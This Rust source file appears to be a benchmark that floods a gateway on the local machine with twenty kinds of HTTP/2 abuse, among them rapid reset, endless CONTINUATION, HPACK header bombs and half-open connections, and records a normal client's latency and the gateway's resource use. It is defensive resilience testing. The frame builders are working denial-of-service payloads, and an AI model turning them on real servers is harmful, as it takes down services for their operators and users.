//! Floods of HTTP/2, kind by kind, against a gateway on this machine: what they cost another client,
//! and the gateway. It says what it sent and what it saw, one line for each kind, and judges nothing.
//! README.md beside this folder has the particulars.

#![allow(
    clippy::disallowed_methods,
    clippy::indexing_slicing,
    clippy::expect_used,
    clippy::print_stdout,
    reason = "a benchmark may fail loudly, and prints what it measured"
)]

use std::collections::HashMap;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use std::{fs, thread};

use openssl::ssl::{SslConnector, SslMethod, SslVerifyMode};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_openssl::SslStream;

const USAGE: &str = "usage: floods --to ADDRESS --name HOST --pid PID [--OPTION VALUE]...
  --kinds LIST        some of the kinds, with commas between them; all by default
  --seconds S         how long each kind lasts (10)
  --connections N     how many flood at once (4)
  --path PATH         what is asked for (/)
  --slow PATH         what is asked for where the answer should take its time (the same)
  --large PATH        what is asked for where the answer is not taken (the same)
  --held N            how many connections are held half open at once (10000)
  --every MS          between two requests of the innocent client (10)
  --anew BOOL         whether each of them has a connection of its own (false)
  --rest S            from the end of a flood to the last look at the gateway (60)";

/// How long any one step of a client may take.
const PATIENCE: Duration = Duration::from_secs(10);

const KINDS: [(&str, &str); 20] = [
    ("rapid-reset", "requests taken back in the same breath"),
    ("slow-reset", "requests taken back once they are passed on"),
    ("server-reset", "requests that make the server reset them"),
    ("ping", "PING"),
    ("settings", "SETTINGS"),
    ("priority", "PRIORITY"),
    ("window-update", "WINDOW_UPDATE of one octet"),
    ("unknown", "large frames of an unknown type"),
    ("empty-data", "empty DATA"),
    ("continuation", "a head without end"),
    ("large-heads", "heads of 200 KB"),
    ("header-bomb", "heads that unpack to a megabyte"),
    ("field-bomb", "heads that unpack to thousands of fields"),
    ("trailer-bomb", "trailers that do, of requests that wait"),
    ("malformed", "requests without a host"),
    ("zero-window", "answers that nobody takes, by the window"),
    ("deaf", "answers that nobody takes, by the socket"),
    ("endless", "requests that never end"),
    ("half-open", "connections that say nothing"),
    ("half-hello", "connections that send half of a ClientHello"),
];

type Error = Box<dyn std::error::Error + Send + Sync>;

fn main() -> Result<(), Error> {
    let mut words = std::env::args().skip(1);
    let mut options = HashMap::new();
    while let Some(word) = words.next() {
        let key = word.strip_prefix("--").ok_or(USAGE)?.to_owned();
        options.insert(key, words.next().ok_or(USAGE)?);
    }
    let bench = Bench::new(&options)?;
    let kinds: Vec<&str> = match options.get("kinds") {
        Some(list) => list.split(',').collect(),
        None => KINDS.iter().map(|(kind, _)| *kind).collect(),
    };
    for kind in &kinds {
        if !KINDS.iter().any(|(known, _)| known == kind) {
            let known = KINDS.map(|(kind, what)| format!("  {kind:14} {what}"));
            return Err(format!("no kind '{kind}'; there are\n{}", known.join("\n")).into());
        }
    }
    println!(
        "{:14} {:>9} {:>9} {:>6} {:>6}  {:>6} {:>6} {:>8} {:>8}  {:>17}  {:>17}  {:>11}",
        "flood",
        "frames",
        "KiB",
        "opened",
        "calmed",
        "asked",
        "failed",
        "p50 ms",
        "p99 ms",
        "memory MiB",
        "descriptors",
        "threads"
    );
    kinds.iter().try_for_each(|kind| bench.run(kind))
}

struct Bench {
    target: Target,
    pid: u32,
    time: Duration,
    connections: usize,
    held: usize,
    every: Duration,
    is_anew: bool,
    rest: Duration,
}

#[derive(Clone)]
struct Target {
    to: SocketAddr,
    name: Arc<str>,
    path: Arc<str>,
    slow: Arc<str>,
    large: Arc<str>,
}

/// What all connections of a flood have done.
#[derive(Default)]
struct Sent {
    over: AtomicBool,
    frames: AtomicU64,
    octets: AtomicU64,
    opened: AtomicU64,
    /// Connections that were ended with ENHANCE_YOUR_CALM.
    calmed: AtomicU64,
}

/// What the system says of the gateway.
#[derive(Clone, Copy, Default)]
struct Look {
    memory: u64,
    descriptors: usize,
    threads: u64,
}

impl Bench {
    fn new(options: &HashMap<String, String>) -> Result<Self, Error> {
        let text = |key: &str| options.get(key).map(String::as_str);
        let number = |key: &str, default: u64, most: u64| -> Result<u64, Error> {
            let given = text(key).map_or(Ok(default), str::parse)?;
            Ok(given.min(most))
        };
        let path = text("path").unwrap_or("/");
        let bench = Self {
            target: Target {
                to: text("to").ok_or(USAGE)?.parse()?,
                name: text("name").ok_or(USAGE)?.into(),
                path: path.into(),
                slow: text("slow").unwrap_or(path).into(),
                large: text("large").unwrap_or(path).into(),
            },
            pid: text("pid").ok_or(USAGE)?.parse()?,
            time: Duration::from_secs(number("seconds", 10, 600)?),
            connections: usize::try_from(number("connections", 4, 64)?)?,
            held: usize::try_from(number("held", 10_000, 20_000)?)?,
            every: Duration::from_millis(number("every", 10, 10_000)?.max(1)),
            is_anew: text("anew").map_or(Ok(false), str::parse)?,
            rest: Duration::from_secs(number("rest", 60, 3600)?),
        };
        if !bench.target.to.ip().is_loopback() {
            return Err("this floods addresses of this machine alone".into());
        }
        Ok(bench)
    }

    fn run(&self, kind: &str) -> Result<(), Error> {
        let before = Look::at(self.pid)?;
        let sent = Arc::new(Sent::default());
        let innocent = {
            let (target, sent) = (self.target.clone(), Arc::clone(&sent));
            let (every, is_anew) = (self.every, self.is_anew);
            thread::spawn(move || innocent(&target, every, is_anew, &sent.over))
        };
        let peak = {
            let (pid, sent) = (self.pid, Arc::clone(&sent));
            thread::spawn(move || peak(pid, before, &sent.over))
        };
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()?;
        let first = match kind {
            "half-open" => Some(Vec::new()),
            "half-hello" => Some(half_hello()),
            _ => None,
        };
        let connections = first.as_ref().map_or(self.connections, |_| self.held);
        for _ in 0..connections {
            let (target, sent, kind) = (self.target.clone(), Arc::clone(&sent), kind.to_owned());
            let first = first.clone();
            runtime.spawn(async move {
                while !sent.over.load(Ordering::Relaxed) {
                    let flooded = match &first {
                        Some(first) => hold(&target, first, &sent).await,
                        None => flood(&target, &kind, &sent).await,
                    };
                    if flooded.is_err() {
                        tokio::time::sleep(Duration::from_millis(10)).await;
                    }
                }
            });
        }
        thread::sleep(self.time);
        sent.over.store(true, Ordering::Relaxed);
        runtime.shutdown_timeout(PATIENCE);
        let (mut took, failed) = innocent.join().expect("no panic");
        let peak = peak.join().expect("no panic");
        thread::sleep(self.rest);
        let after = Look::at(self.pid)?;

        took.sort_unstable();
        let at = |part: f64| {
            let last = took.len().saturating_sub(1);
            let index = (last as f64 * part).round() as usize;
            took.get(index)
                .map_or(0.0, |took| took.as_secs_f64() * 1000.0)
        };
        let mib = |look: Look| look.memory / 1024;
        let count = |number: &AtomicU64| number.load(Ordering::Relaxed);
        println!(
            "{kind:14} {:>9} {:>9} {:>6} {:>6}  {:>6} {:>6} {:>8.1} {:>8.1}  {:>17}  {:>17}  {:>11}",
            count(&sent.frames),
            count(&sent.octets) / 1024,
            count(&sent.opened),
            count(&sent.calmed),
            took.len() + failed,
            failed,
            at(0.5),
            at(0.99),
            format!("{} {} {}", mib(before), mib(peak), mib(after)),
            format!(
                "{} {} {}",
                before.descriptors, peak.descriptors, after.descriptors
            ),
            format!("{} {} {}", before.threads, peak.threads, after.threads),
        );
        Ok(())
    }
}

impl Look {
    fn at(pid: u32) -> Result<Self, Error> {
        let status = fs::read_to_string(format!("/proc/{pid}/status"))?;
        let field = |name: &str| -> Option<u64> {
            let line = status.lines().find_map(|line| line.strip_prefix(name))?;
            line.split_whitespace().next()?.parse().ok()
        };
        Ok(Self {
            memory: field("VmRSS:").ok_or("a process without memory")?,
            threads: field("Threads:").unwrap_or(0),
            descriptors: fs::read_dir(format!("/proc/{pid}/fd"))?.count(),
        })
    }
}

/// The most that is seen of the gateway while a flood lasts.
fn peak(pid: u32, mut peak: Look, over: &AtomicBool) -> Look {
    while !over.load(Ordering::Relaxed) {
        if let Ok(look) = Look::at(pid) {
            peak.memory = peak.memory.max(look.memory);
            peak.descriptors = peak.descriptors.max(look.descriptors);
            peak.threads = peak.threads.max(look.threads);
        }
        thread::sleep(Duration::from_millis(50));
    }
    peak
}

/// A client that asks one thing after the other, each when it is due, and connects again where it
/// has to: how long each answer took since its request was due, and how many there were none to.
fn innocent(
    target: &Target,
    every: Duration,
    is_anew: bool,
    over: &AtomicBool,
) -> (Vec<Duration>, usize) {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a runtime");
    let (mut took, mut failed) = (Vec::new(), 0);
    runtime.block_on(async {
        let mut connection = None;
        let mut due = Instant::now();
        while !over.load(Ordering::Relaxed) {
            tokio::time::sleep_until(due.into()).await;
            match tokio::time::timeout(PATIENCE, ask(target, &mut connection)).await {
                Ok(Ok(())) => took.push(due.elapsed()),
                _ => {
                    failed += 1;
                    connection = None;
                }
            }
            if is_anew {
                connection = None;
            }
            due = (due + every).max(Instant::now() - PATIENCE);
        }
    });
    (took, failed)
}

async fn ask(
    target: &Target,
    connection: &mut Option<h2::client::SendRequest<bytes::Bytes>>,
) -> Result<(), Error> {
    let sender = match connection.take() {
        Some(sender) => sender,
        None => {
            let (sender, driver) = h2::client::handshake(connect(target).await?).await?;
            tokio::spawn(driver);
            sender
        }
    };
    let mut sender = sender.ready().await?;
    let request = http::Request::get(format!("https://{}{}", target.name, target.path));
    let (answer, _) = sender.send_request(request.body(())?, true)?;
    let answer = answer.await?;
    if !answer.status().is_success() {
        return Err(answer.status().to_string().into());
    }
    let mut body = answer.into_body();
    while let Some(part) = body.data().await {
        body.flow_control().release_capacity(part?.len())?;
    }
    *connection = Some(sender);
    Ok(())
}

async fn connect(target: &Target) -> Result<SslStream<TcpStream>, Error> {
    let mut builder = SslConnector::builder(SslMethod::tls_client())?;
    builder.set_verify(SslVerifyMode::NONE);
    builder.set_alpn_protos(b"\x02h2")?;
    let ssl = builder.build().configure()?.into_ssl(&target.name)?;
    let work = async {
        let tcp = TcpStream::connect(target.to).await?;
        tcp.set_nodelay(true)?;
        let mut stream = SslStream::new(ssl, tcp)?;
        Pin::new(&mut stream).connect().await?;
        Ok::<_, Error>(stream)
    };
    tokio::time::timeout(PATIENCE, work).await?
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ENHANCE_YOUR_CALM: u32 = 11;

/// Frames on their way out.
#[derive(Default)]
struct Batch {
    bytes: Vec<u8>,
    frames: u64,
}

impl Batch {
    fn add(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let len = u32::try_from(payload.len()).expect("small");
        self.bytes.extend_from_slice(&len.to_be_bytes()[1..]);
        self.bytes.extend([kind, flags]);
        self.bytes.extend_from_slice(&stream.to_be_bytes());
        self.bytes.extend_from_slice(payload);
        self.frames += 1;
    }

    /// A block of fields in as many frames as it takes.
    fn add_block(&mut self, flags: u8, stream: u32, block: &[u8]) {
        let last = block.len().div_ceil(16_384).saturating_sub(1);
        for (at, part) in block.chunks(16_384).enumerate() {
            let kind = if at == 0 { HEADERS } else { CONTINUATION };
            let end = if at == last { END_HEADERS } else { 0 };
            let flags = if at == 0 { flags | end } else { end };
            self.add(kind, flags, stream, part);
        }
    }
}

/// Appends a string of HPACK that is not compressed (RFC 7541, section 5.2).
fn write_string(to: &mut Vec<u8>, text: &[u8]) {
    let len = text.len();
    if len < 127 {
        to.push(u8::try_from(len).expect("short"));
    } else {
        to.push(127);
        let mut rest = len - 127;
        while rest >= 128 {
            to.push(u8::try_from(rest % 128).expect("short") | 128);
            rest /= 128;
        }
        to.push(u8::try_from(rest).expect("short"));
    }
    to.extend_from_slice(text);
}

fn fields(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        write_string(&mut block, name.as_bytes());
        write_string(&mut block, value.as_bytes());
    }
    block
}

/// What floods send: something at first, and something again and again.
struct Flood {
    kind: String,
    get: Vec<u8>,
    get_slow: Vec<u8>,
    get_large: Vec<u8>,
    post: Vec<u8>,
    next: u32,
    /// The stream that was opened last.
    current: u32,
    /// The last stream that the server has ended.
    ended: Arc<AtomicU32>,
}

impl Flood {
    fn new(target: &Target, kind: &str) -> Self {
        let request = |method, path| {
            fields(&[
                (":method", method),
                (":scheme", "https"),
                (":authority", &target.name),
                (":path", path),
            ])
        };
        Self {
            kind: kind.to_owned(),
            get: request("GET", &target.path),
            get_slow: request("GET", &target.slow),
            get_large: request("GET", &target.large),
            post: request("POST", &target.slow),
            next: 1,
            current: 0,
            ended: Arc::default(),
        }
    }

    fn stream(&mut self) -> u32 {
        self.current = self.next;
        self.next += 2;
        self.current
    }

    fn first(&mut self) -> Batch {
        let mut batch = Batch::default();
        batch
            .bytes
            .extend_from_slice(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        let window: u32 = match &*self.kind {
            "zero-window" => 0,
            _ => 0x7fff_ffff,
        };
        let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
        batch.add(SETTINGS, 0, 0, &settings);
        // What is read is never too much for the connection, and what is not read is left to its
        // streams or to the socket.
        batch.add(WINDOW_UPDATE, 0, 0, &0x7000_0000u32.to_be_bytes());
        let whole = END_HEADERS | END_STREAM;
        match &*self.kind {
            "zero-window" | "deaf" => {
                for _ in 0..100 {
                    let stream = self.stream();
                    batch.add(HEADERS, whole, stream, &self.get_large);
                }
            }
            "endless" => {
                for _ in 0..100 {
                    let stream = self.stream();
                    batch.add(HEADERS, END_HEADERS, stream, &self.post);
                }
            }
            "continuation" => {
                let stream = self.stream();
                batch.add(HEADERS, END_STREAM, stream, &self.get);
            }
            "header-bomb" => {
                let stream = self.stream();
                let mut block = self.get.clone();
                block.push(0x40);
                write_string(&mut block, b"x");
                write_string(&mut block, &[b'y'; 4000]);
                batch.add(HEADERS, whole, stream, &block);
            }
            "field-bomb" | "trailer-bomb" => {
                let stream = self.stream();
                let mut block = self.get.clone();
                block.extend([0x40, 1, b'x', 1, b'y']);
                batch.add(HEADERS, whole, stream, &block);
            }
            _ => {}
        }
        batch
    }

    /// What comes now, and what comes a little later; `None` where all has been said.
    fn more(&mut self) -> Option<(Batch, Option<Batch>)> {
        let (mut now, mut later) = (Batch::default(), None);
        let whole = END_HEADERS | END_STREAM;
        match &*self.kind {
            "zero-window" | "deaf" | "endless" => return None,
            "rapid-reset" | "slow-reset" => {
                let mut resets = Batch::default();
                for _ in 0..10 {
                    let stream = self.stream();
                    now.add(HEADERS, whole, stream, &self.get_slow);
                    resets.add(RST_STREAM, 0, stream, &8u32.to_be_bytes());
                }
                if self.kind == "rapid-reset" {
                    now.bytes.append(&mut resets.bytes);
                    now.frames += resets.frames;
                } else {
                    later = Some(resets);
                }
            }
            "server-reset" => {
                let stream = self.stream();
                now.add(HEADERS, END_HEADERS, stream, &self.post);
                now.add(WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes());
            }
            "large-heads" => {
                let mut block = self.get.clone();
                block.push(0);
                write_string(&mut block, b"x");
                write_string(&mut block, &[b'y'; 200_000]);
                let stream = self.stream();
                now.add_block(END_STREAM, stream, &block);
            }
            "header-bomb" => {
                let mut block = self.get.clone();
                block.extend([0x80 | 62; 240]);
                let stream = self.stream();
                now.add(HEADERS, whole, stream, &block);
            }
            "field-bomb" => {
                let mut block = self.get.clone();
                block.extend([0x80 | 62; 7000]);
                let stream = self.stream();
                now.add(HEADERS, whole, stream, &block);
            }
            "trailer-bomb" => {
                let stream = self.stream();
                now.add(HEADERS, END_HEADERS, stream, &self.post);
                now.add(HEADERS, whole, stream, &[0x80 | 62; 7000]);
            }
            "malformed" => {
                let stream = self.stream();
                let block = fields(&[(":method", "GET"), (":scheme", "https"), (":path", "/")]);
                now.add(HEADERS, whole, stream, &block);
            }
            "empty-data" => {
                // A request that was answered takes no body any more.
                if self.ended.load(Ordering::Relaxed) >= self.current {
                    let stream = self.stream();
                    now.add(HEADERS, END_HEADERS, stream, &self.post);
                }
                for _ in 0..20 {
                    now.add(DATA, 0, self.current, &[]);
                }
            }
            kind => {
                let (kind, stream, payload): (u8, u32, &[u8]) = match kind {
                    "ping" => (PING, 0, &[0; 8]),
                    "settings" => (SETTINGS, 0, &[0, 4, 0, 1, 0, 0]),
                    "priority" => (PRIORITY, 1, &[0; 5]),
                    "window-update" => (WINDOW_UPDATE, 0, &[0, 0, 0, 1]),
                    "continuation" => (CONTINUATION, 1, &[0, 1, b'x', 1, b'y']),
                    _ => (0x42, 0, &[0; 16_384]),
                };
                for _ in 0..20 {
                    now.add(kind, 0, stream, payload);
                }
            }
        }
        Some((now, later))
    }
}

/// The first half of a ClientHello, in a record that is complete.
fn half_hello() -> Vec<u8> {
    const HELLO: u16 = 512;
    let half = usize::from(HELLO / 2);
    let [high, low] = (HELLO / 2 + 4).to_be_bytes();
    let mut bytes = vec![22, 3, 1, high, low, 1, 0];
    bytes.extend(HELLO.to_be_bytes());
    bytes.extend([3, 3]);
    bytes.resize(bytes.len() + half - 2, 7);
    bytes
}

/// One connection that says this and nothing more, until it is cut or the flood is over.
async fn hold(target: &Target, first: &[u8], sent: &Sent) -> Result<(), Error> {
    let mut stream = TcpStream::connect(target.to).await?;
    sent.opened.fetch_add(1, Ordering::Relaxed);
    stream.write_all(first).await?;
    let octets = u64::try_from(first.len())?;
    sent.octets.fetch_add(octets, Ordering::Relaxed);
    let mut buffer = [0; 64];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// One connection of a flood, until it is cut or the flood is over.
async fn flood(target: &Target, kind: &str, sent: &Arc<Sent>) -> Result<(), Error> {
    let stream = connect(target).await?;
    sent.opened.fetch_add(1, Ordering::Relaxed);
    let (mut reader, mut writer) = tokio::io::split(stream);
    let mut flood = Flood::new(target, kind);
    let calmed = Arc::new(Mutex::new(false));
    let listening = {
        let (calmed, is_deaf) = (Arc::clone(&calmed), kind == "deaf");
        let ended = Arc::clone(&flood.ended);
        async move {
            if is_deaf {
                return std::future::pending().await;
            }
            let mut header = [0; 9];
            // The most that a frame may have, since the settings say nothing else.
            let mut payload = [0; 16_384];
            while reader.read_exact(&mut header).await.is_ok() {
                let [a, b, c, kind, flags, stream @ ..] = header;
                let len = usize::from(a) << 16 | usize::from(b) << 8 | usize::from(c);
                let payload = &mut payload[..len];
                if reader.read_exact(payload).await.is_err() {
                    return;
                }
                let is_last = matches!(kind, HEADERS | DATA) && flags & END_STREAM != 0;
                if is_last || kind == RST_STREAM {
                    ended.fetch_max(u32::from_be_bytes(stream), Ordering::Relaxed);
                }
                if kind == GOAWAY && payload[4..8] == ENHANCE_YOUR_CALM.to_be_bytes() {
                    *calmed.lock().expect("no panic") = true;
                    return;
                }
            }
        }
    };
    let talking = async {
        let mut say = async |batch: Batch| -> std::io::Result<()> {
            writer.write_all(&batch.bytes).await?;
            writer.flush().await?;
            let octets = u64::try_from(batch.bytes.len()).unwrap_or(0);
            sent.octets.fetch_add(octets, Ordering::Relaxed);
            sent.frames.fetch_add(batch.frames, Ordering::Relaxed);
            Ok(())
        };
        say(flood.first()).await?;
        while !sent.over.load(Ordering::Relaxed) {
            let Some((now, later)) = flood.more() else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            say(now).await?;
            if let Some(later) = later {
                tokio::time::sleep(Duration::from_millis(3)).await;
                say(later).await?;
            }
            tokio::task::yield_now().await;
        }
        Ok::<_, std::io::Error>(())
    };
    tokio::pin!(listening, talking);
    tokio::select! {
        () = &mut listening => {}
        // What cannot be said any more has been answered, most likely.
        said = &mut talking => if said.is_err() {
            _ = tokio::time::timeout(Duration::from_secs(1), listening).await;
        }
    }
    if *calmed.lock().expect("no panic") {
        sent.calmed.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}
